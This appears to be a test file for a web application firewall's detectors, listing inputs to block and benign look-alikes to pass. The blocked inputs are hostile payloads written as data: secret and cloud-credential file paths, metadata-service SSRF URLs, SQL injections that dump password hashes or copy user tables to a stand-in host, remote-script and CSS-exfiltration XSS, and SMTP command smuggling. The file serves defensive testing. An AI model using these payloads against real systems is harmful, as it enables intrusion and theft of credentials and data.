import { test } from 'node:test';
import { detectMail } from '../../../src/guard/decide/waf/detect/mail/mail.ts';
import { detectPath } from '../../../src/guard/decide/waf/detect/path/path.ts';
import { detectSql } from '../../../src/guard/decide/waf/detect/sql/sql.ts';
import { detectSsrf } from '../../../src/guard/decide/waf/detect/ssrf/ssrf.ts';
import { detectXss } from '../../../src/guard/decide/waf/detect/xss/xss.ts';
import { blocks, passes } from './judged.ts';

test('other streams of a file, backups of secrets and credentials of clouds are files no caller names', () => {
  blocks(detectPath, [
    'index.asp::$DATA',
    'web.config::$INDEX_ALLOCATION',
    'shell.aspx:.jpg',
    '~/.azure/accessTokens.json',
    '/home/app/.config/gcloud/application_default_credentials.json',
    '.env.bak',
    '/var/run/docker.sock',
    '.vault-token',
    '../wp-config.php~',
  ]);
  passes(detectPath, [
    'app.js:12:3',
    'index.php:main',
    'see config.exe: it is new',
    '.env.example',
    'docker run -v /var/run/docker.sock:/var/run/docker.sock traefik',
    'readme.md~',
    'std::$DATA',
  ]);
});

test('an address before a domain of anybody is the address, and what machines answer inside counts on all of them', () => {
  blocks(detectSsrf, [
    'http://127.0.0.1.x.test/',
    'http://169.254.169.254.x.test/latest/',
    'http://169.254.42.42/conf',
    'http://10.0.0.5:8080/manager/html',
    'http://192.168.0.1/cgi-bin/luci',
  ]);
  passes(detectSsrf, [
    'http://10.0.0.5:8080/orders',
    'http://127.0.0.2.x.test/',
    'http://localhost:3000/callback',
  ]);
});

test('what stores and warehouses add to SQL is read as SQL', () => {
  blocks(detectSql, [
    'x OR 1=1 ALLOW FILTERING--',
    "'; DROP KEYSPACE shop; --",
    "7;COPY INTO 's3://oob.test/x' FROM (SELECT * FROM users)",
    "1 RETURNING (SELECT string_agg(passwd,',') FROM pg_shadow)",
    "$$||(select dblink_connect('host=oob.test'))||$$",
    "admin'<>'a",
    "a' regexp '^a",
  ]);
  passes(detectSql, [
    'returning (some) customers or not',
    'we allow filtering',
    "he said 'a'='b",
    '$$ US or $$ CA',
    'copy into the box',
  ]);
});

test('modules by their names, a base of code and what tells a field letter by letter run for whoever sets them', () => {
  blocks(detectXss, [
    '<script type=importmap>{"imports":{"a":"//x.test/a.js"}}</script>',
    '<base href=javascript:/a/><a href=//%0aalert(1)//>c</a>',
    '<style>input[value^=a]{background:url(//x.test/a)}</style>',
    "<input ng-focus=$event.composedPath()|orderBy:'(z=alert)(1)' autofocus>",
    '<div data-bind="text:alert(1)">',
  ]);
  passes(detectXss, [
    '<script type="importmap">{"imports":{"three":"https://unpkg.com/three/build/three.module.js"}}</script>',
    '<style>a[href^="http"]{background:url(/icons/out.svg)}</style>',
    '<div data-bind="text: name, click: save"></div>',
    `<li ng-repeat="p in people | orderBy:'name'">`,
  ]);
});

test('one command of a mail server behind a break is one, and in a text it is a word', () => {
  blocks(detectMail, ['\r\nVRFY root\r\n', '"\r\nQUIT\r\n', 'a\u560a\u560dBcc:z@d.test']);
  passes(detectMail, ['\nquit\nsmoking', 'press\r\nQUIT\r\nto leave', 'To do:\nDATA\n']);
});
